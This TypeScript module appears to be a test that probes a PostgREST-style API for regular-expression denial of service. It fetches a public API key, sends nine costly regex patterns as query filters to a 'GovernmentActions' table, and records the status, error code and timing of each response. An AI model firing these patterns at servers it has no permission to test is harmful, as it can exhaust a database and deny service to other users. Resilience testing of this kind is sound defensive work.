/** A pattern and its answer: the status, the code of a refusal, and the milliseconds. */
export type RegularExpressions = {
  pattern: string
  status: number
  code: string | null
  ms: number
}[]

/** Each takes PostgreSQL seconds, or more memory than it may have. The last is a normal pattern. */
const patterns = [
  '(x{1,200}){1,200}',
  '((((a?){5}){5}){5}){5}',
  '(.*)(.*)\\1\\2',
  '(?=.*(?=.*(?=.*zz)))qq',
  '(?!.*zz)qq',
  '\\y'.repeat(20),
  '(?x)(x{1,200}) {1,200}',
  '***:(x{1,200}){1,200}',
  '^The .*Act',
]

/** A visitor filters by patterns that are expensive to compile or match. */
export async function attackByPatterns(baseUrl: string): Promise<RegularExpressions> {
  const { publishableKey } = (await (await fetch(`${baseUrl}/config.json`)).json()) as {
    publishableKey: string
  }
  const answers: RegularExpressions = []
  for (const pattern of patterns) {
    const query = new URLSearchParams({ select: 'id', title: `match.${pattern}` })
    const started = performance.now()
    const response = await fetch(`${baseUrl}/rest/v1/GovernmentActions?${query.toString()}`, {
      headers: { apikey: publishableKey },
    })
    const body = (await response.json()) as { code?: string }
    const ms = Math.round(performance.now() - started)
    answers.push({ pattern, status: response.status, code: body.code ?? null, ms })
  }
  return answers
}
